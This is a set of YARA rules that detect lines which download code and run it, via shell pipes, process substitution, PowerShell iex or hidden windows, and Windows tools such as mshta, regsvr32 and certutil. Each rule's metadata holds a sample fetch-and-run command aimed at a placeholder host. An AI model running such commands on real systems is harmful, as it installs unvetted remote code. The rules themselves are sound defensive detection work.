/*
 * Lines that fetch a program and run it unseen. Vendors publish installers in this form, so the
 * verdict is "suspicious": the person is asked and told to download first. Where the line also
 * hides what it does, it is malicious.
 *
 * YARA has no macros, so these parts recur, here and in the other files:
 *   ([ \t]|\\\r?\n)      a blank, or a line break that a backslash takes away
 *   ([^\n|]|\\\r?\n)     what belongs to one command of a pipeline
 *   \|&?([ \t\\]{0,8}(#[^\n]{0,60})?\r?\n){0,3}[ \t\\]{0,8}
 *                        a pipe; the line may break after it, and comments may follow
 *   $run_*               a pipe into an interpreter, be it by way of sudo, env, nohup, NAME=VALUE or
 *                        a bracket. A shell always runs what it reads; the others only when they are
 *                        not given code (-c, -e, -r, -m, a file), or code that evaluates its input.
 * What feeds an interpreter is a string that reaches up to the pipe, and a $run_* that begins within
 * it: as one expression both together are more than libyara takes. The latter is private, since it
 * may also match where nothing feeds it, which is no evidence.
 */

rule Download_Piped_To_Shell
{
    meta:
        description = "Fetches a script and feeds it to an interpreter without keeping it"
        verdict = "suspicious"
        severity = "medium"
        confidence = 60
        technique = "T1105"
        advice = "download_first"
        pes_sample = "curl -fsSL https://files.example/setup | sudo bash -s -- --yes"

    strings:
        $download = /\b(curl(\.exe)?["']?|wget2?|fetch|aria2c|lynx|axel)([ \t]|\\\r?\n)(([^\n|]|\\\r?\n){0,500}\|&?([ \t\\]{0,8}(#[^\n]{0,60})?\r?\n){0,3}[ \t\\]{0,8}){1,3}/
        $run_shell = /\|&?([ \t\\]{0,8}(#[^\n]{0,60})?\r?\n){0,3}[ \t\\]{0,8}((\/[a-z\/]{1,24}\/)?(sudo|doas|env|exec|nohup|command|time|nice|setsid|stdbuf|busybox|[A-Za-z_]{1,30}=)([^\n|;&]|\\\r?\n){0,120}[ \t\n])?[({"'\\ ]{0,3}(\/[a-z0-9_.\/-]{1,40}\/)?(ba|z|da|k|c|tc|fi|a)?sh([^A-Za-z0-9_.\/-]|$)/ private
        $run_other = /\|&?([ \t\\]{0,8}(#[^\n]{0,60})?\r?\n){0,3}[ \t\\]{0,8}((\/[a-z\/]{1,24}\/)?(sudo|doas|env|exec|nohup|command|time|nice|setsid|stdbuf|busybox|[A-Za-z_]{1,30}=)([^\n|;&]|\\\r?\n){0,120}[ \t\n])?[({"'\\ ]{0,3}(\/[a-z0-9_.\/-]{1,40}\/)?(python[0-9.]{0,4}|perl|ruby|node|php|osascript)(([ \t]|\\\r?\n){1,3}(-[uBEIsSOqwWTtxbdv]{1,6}|--[a-z-]{2,30}(=[a-z]{1,20})?)){0,3}(["'`]|([ \t]|\\\r?\n){0,4}([\r\n;&|)}#]|[0-9]?[<>]|$)|([ \t]|\\\r?\n){1,3}(-([^A-Za-z0-9-]|$)|\/dev\/(stdin|fd\/0)))/ private
        $run_code = /\|&?([ \t\\]{0,8}(#[^\n]{0,60})?\r?\n){0,3}[ \t\\]{0,8}((\/[a-z\/]{1,24}\/)?(sudo|doas|env|exec|nohup|command|time|nice|setsid|stdbuf|busybox|[A-Za-z_]{1,30}=)([^\n|;&]|\\\r?\n){0,120}[ \t\n])?[({"'\\ ]{0,3}(\/[a-z0-9_.\/-]{1,40}\/)?(python[0-9.]{0,4}|perl|ruby|node|php|osascript)(([ \t]|\\\r?\n){1,3}(-[uBEIsSOqwWTtxbdv]{1,6}|--[a-z-]{2,30}(=[a-z]{1,20})?)){0,3}([ \t]|\\\r?\n){1,3}-[A-Za-z]{0,4}[cer]([ \t]|\\\r?\n){0,3}["'][^|]{0,160}\b(exec|eval)\b/ private

    condition:
        filesize < 64KB and (for any i in (1..#download) : (any of ($run_*) in (@download[i]..@download[i] + !download[i])))
}

rule Download_Substituted_Into_Shell
{
    meta:
        description = "Runs what a download prints, by command or process substitution"
        verdict = "suspicious"
        severity = "medium"
        confidence = 60
        technique = "T1105"
        advice = "download_first"
        pes_sample = "bash <(curl -s https://files.example/setup)"

    strings:
        $process = /(\b(ba|z|k|da)?sh|(\bsource|(^|[ \t\n;&|({])\.))([ \t]|\\\r?\n)([^\n]|\\\r?\n){0,250}<\([ \t\r\n\\]{0,8}\\?(curl|wget2?|fetch)([ \t]|\\\r?\n)/
        $interpreter = /\b(python[0-9.]{0,4}|perl|ruby|node|php|osascript)(([ \t]|\\\r?\n){1,3}(-[uBEIsSOqwWTtxbdv]{1,6}|--[a-z-]{2,30}(=[a-z]{1,20})?)){0,3}([ \t]|\\\r?\n){1,4}<\([ \t\r\n\\]{0,8}\\?(curl|wget2?|fetch)([ \t]|\\\r?\n)/
        $dash_c = /\b(ba|z|k|da)?sh(([ \t]|\\\r?\n){1,4}-[A-Za-z]{1,6}){0,3}([ \t]|\\\r?\n){1,4}-[A-Za-z]{0,4}c([ \t]|\\\r?\n){1,4}["']?(\$\(|`)[ \t\r\n\\]{0,8}\\?(curl|wget2?|fetch)([ \t]|\\\r?\n)/
        $eval = /\beval([ \t]|\\\r?\n){1,4}["']?(\$\(|`)[ \t\r\n\\]{0,8}\\?(curl|wget2?|fetch)([ \t]|\\\r?\n)/
        $stdin = /(\bsource|(^|[ \t\n;&|({])\.)([ \t]|\\\r?\n){1,4}\/dev\/(stdin|fd\/0)([ \t]|\\\r?\n){0,4}<<<([ \t]|\\\r?\n){0,4}["']?(\$\(|`)[ \t\r\n\\]{0,8}\\?(curl|wget2?|fetch)([ \t]|\\\r?\n)/
        $here = /\b(ba|z|k|da)?sh(([ \t]|\\\r?\n){1,4}-[A-Za-z]{1,6}){0,3}([ \t]|\\\r?\n){0,4}<<<([ \t]|\\\r?\n){0,4}["']?(\$\(|`)[ \t\r\n\\]{0,8}\\?(curl|wget2?|fetch)([ \t]|\\\r?\n)/

    condition:
        filesize < 64KB and any of them
}

rule Download_Then_Execute
{
    meta:
        description = "Saves a download, marks it executable and starts it in one line"
        verdict = "suspicious"
        severity = "medium"
        confidence = 55
        technique = "T1105"
        advice = "download_first"
        pes_sample = "wget -qO /tmp/u https://files.example/u; chmod +x /tmp/u; /tmp/u &"

    strings:
        $chmod = /\b(curl|wget)([ \t]|\\\r?\n)([^\n]|\\\r?\n){0,250}(&&|\|\||[;&\n])([ \t\\]{0,8}(#[^\n]{0,60})?\r?\n){0,3}[ \t\\]{0,8}(sudo([ \t]|\\\r?\n){1,3})?chmod([ \t]|\\\r?\n)([^\n|;&]|\\\r?\n){1,250}(&&|\|\||[;&\n])([ \t\\]{0,8}(#[^\n]{0,60})?\r?\n){0,3}[ \t\\]{0,8}((sudo|doas|env|nohup|exec|setsid|-[A-Za-z-]{1,20}|root|[A-Za-z_]{1,30}=[^ \t\n;|&]{0,100})([ \t]|\\\r?\n){1,4}){0,5}["']?(\.\/|\/(var\/)?tmp\/|\/dev\/shm\/|~\/|\$HOME|\$TMP|\$\{?TMPDIR)/
        $shell = /\b(curl|wget)([ \t]|\\\r?\n)([^\n]|\\\r?\n){0,250}([ \t]|\\\r?\n)(\/(var\/)?tmp|\/dev\/shm)\/([^\n|;&]|\\\r?\n){1,250}(&&|\|\||[;&\n])([ \t\\]{0,8}(#[^\n]{0,60})?\r?\n){0,3}[ \t\\]{0,8}((sudo|doas|env|nohup|exec|setsid|-[A-Za-z-]{1,20}|root|[A-Za-z_]{1,30}=[^ \t\n;|&]{0,100})([ \t]|\\\r?\n){1,4}){0,5}(ba|z|da|k)?sh([ \t]|\\\r?\n){1,4}["']?(\/(var\/)?tmp|\/dev\/shm)\//
        $saved = /\b(curl|wget)([ \t]|\\\r?\n)([^\n|;]|\\\r?\n){0,250}(>|([ \t]|\\\r?\n)(-[A-Za-z]{0,6}[oO]|--output(-document)?[= ]))([ \t]|\\\r?\n){0,3}["']?([^\/\n|;& \t"']|\/[^d\n|;&])([^\n|;&]|\\\r?\n){0,250}(&&|\|\||[;&\n])([ \t\\]{0,8}(#[^\n]{0,60})?\r?\n){0,3}[ \t\\]{0,8}((sudo|doas|env|nohup|exec|setsid|-[A-Za-z-]{1,20}|root|[A-Za-z_]{1,30}=[^ \t\n;|&]{0,100})([ \t]|\\\r?\n){1,4}){0,5}((ba|z|da|k|a|fi)?sh|python[0-9.]{0,4}|perl|ruby|node|php|source|\.)(([ \t]|\\\r?\n){1,3}-[eux]{1,4}){0,2}([ \t]|\\\r?\n){1,4}["']?[A-Za-z0-9_.\/~$]/
        $named = /\b(curl|wget)([ \t]|\\\r?\n)([^\n|;]|\\\r?\n){0,250}\.(sh|bash|zsh|py|pl|rb|run|bin)["']?(([ \t]|\\\r?\n)([^\n|;&]|\\\r?\n){0,250})?(&&|\|\||[;&\n])([ \t\\]{0,8}(#[^\n]{0,60})?\r?\n){0,3}[ \t\\]{0,8}((sudo|doas|env|nohup|exec|setsid|-[A-Za-z-]{1,20}|root|[A-Za-z_]{1,30}=[^ \t\n;|&]{0,100})([ \t]|\\\r?\n){1,4}){0,5}((ba|z|da|k|a|fi)?sh|python[0-9.]{0,4}|perl|ruby|node|php|source|\.)(([ \t]|\\\r?\n){1,3}-[eux]{1,4}){0,2}([ \t]|\\\r?\n){1,4}["']?[A-Za-z0-9_.\/~$]/

    condition:
        filesize < 64KB and any of them
}

rule Interpreter_Download_Run
{
    meta:
        description = "An interpreter's one-liner that fetches code and evaluates it"
        verdict = "suspicious"
        severity = "medium"
        confidence = 70
        technique = "T1059.006"
        advice = "download_first"
        pes_sample = "python3 -c \"import urllib.request as u;exec(u.urlopen('https://files.example/x').read())\""

    strings:
        $python = /\b(exec|eval)[ \t]{0,3}\([^\n]{0,250}(urlopen|requests\.get|urlretrieve)[ \t]{0,3}\(/
        $perl = /\beval[ \t]{0,3}\(?[ \t]{0,3}(LWP::Simple::)?get[ \t]{0,3}\(/
        $php = /\beval[ \t]{0,3}\([^\n]{0,250}file_get_contents[ \t]{0,3}\([ \t]{0,3}["']{1,3}https?:/
        $ruby = /\beval[ \t]{0,3}\(?[^\n]{0,250}(URI\.open|Net::HTTP\.get|open)[ \t]{0,3}\(?[^\n]{0,20}["']{1,3}https?:/

    condition:
        filesize < 64KB and any of them
}

rule PowerShell_Download_Run
{
    meta:
        description = "PowerShell fetches code and evaluates it"
        verdict = "suspicious"
        severity = "medium"
        confidence = 65
        technique = "T1059.001"
        advice = "download_first"
        pes_sample = "irm https://files.example/setup.ps1 | iex"

    strings:
        $iex_first = /\b(iex|invoke-expression)[ \t]{0,4}([^\n]|[`|;({,][ \t]{0,4}\r?\n){0,250}(\.download(string|data|file)[ \t]{0,3}\(|\b(irm|iwr|invoke-webrequest|invoke-restmethod)[ \t])/ nocase
        $iex_last = /(\.download(string|data)[ \t]{0,3}\(|\b(irm|iwr|invoke-webrequest|invoke-restmethod|curl(\.exe)?|wget)[ \t])([^\n]|[`|;({,][ \t]{0,4}\r?\n){0,250}[|;][ \t\r\n`]{0,8}(iex|invoke-expression)([^A-Za-z0-9_-]|$)/ nocase
        $block = /\[scriptblock\]::create[ \t]{0,3}\([^\n]{0,250}(\b(irm|iwr|invoke-webrequest|invoke-restmethod)[ \t]|\.downloadstring)/ nocase

    condition:
        filesize < 64KB and any of them
}

rule PowerShell_Hidden_Download
{
    meta:
        description = "PowerShell hides its window and fetches or decodes something"
        verdict = "malicious"
        severity = "high"
        confidence = 85
        technique = "T1564.003"
        advice = "do_not_run"
        pes_sample = "powershell -w hidden -c \"iwr https://files.example/a.ps1 -OutFile $p; start $p\""

    strings:
        $hidden = /\b(powershell|pwsh)(\.exe)?["']?[ \t][^\n]{0,250}[-\/]w[indowstyle]{0,11}[ \t]{1,4}["']?(h(id|idden)?|1|2|mi[nimzed]{0,7})["']?[ \t;]/ nocase
        $fetch = /(\b(irm|iwr|invoke-webrequest|invoke-restmethod|start-bitstransfer|curl(\.exe)?|wget)[ \t]|\.download(string|file|data)[ \t]{0,3}\(|net\.webclient|\bmshta[ \t]|[-\/]e(nc|\^nc)[odeman^]{0,24}[ \t]["']?[A-Za-z0-9+\/]{32,})/ nocase

    condition:
        filesize < 64KB and all of them
}

rule Windows_Tool_Runs_Remote_Code
{
    meta:
        description = "A tool of Windows is pointed at code on another machine"
        verdict = "malicious"
        severity = "high"
        confidence = 85
        technique = "T1218"
        advice = "do_not_run"
        pes_sample = "mshta https://files.example/kb.hta"

    strings:
        $mshta = /\bmshta(\.exe)?["']?[ \t]{1,8}["']?(https?:|\\\\|vbscript:|javascript:)/ nocase
        $regsvr32 = /\bregsvr32(\.exe)?["']?[ \t][^\n]{0,250}[\/-]i:["']?(https?:|ftp:|\\\\)/ nocase
        $rundll32 = /\brundll32(\.exe)?["']?[ \t]{1,8}["']?(https?:|javascript:|vbscript:|\\\\[a-z0-9][^\n]{0,250}\.dll)/ nocase
        $script_host = /\b(wscript|cscript)(\.exe)?["']?[ \t][^\n]{0,40}(\\\\[a-z0-9]|https?:)/ nocase

    condition:
        filesize < 64KB and any of them
}

rule Windows_Tool_Downloads
{
    meta:
        description = "A tool of Windows that is not made for it fetches or installs from an address"
        verdict = "suspicious"
        severity = "medium"
        confidence = 60
        technique = "T1105"
        advice = "download_first"
        pes_sample = "certutil -urlcache -split -f https://files.example/a.exe a.exe"

    strings:
        $certutil = /\bcertutil(\.exe)?["']?[ \t][^\n]{0,250}-(urlcache|verifyctl)[ \t][^\n]{0,250}(https?|ftp):/ nocase
        $bitsadmin = /\bbitsadmin(\.exe)?["']?[ \t][^\n]{0,40}\/(transfer|addfile)[ \t][^\n]{0,250}(https?|ftp):/ nocase
        $msiexec = /\bmsiexec(\.exe)?["']?[ \t][^\n]{0,40}[\/-](i|package)[ \t]{1,4}["']?https?:/ nocase

    condition:
        filesize < 64KB and any of them
}
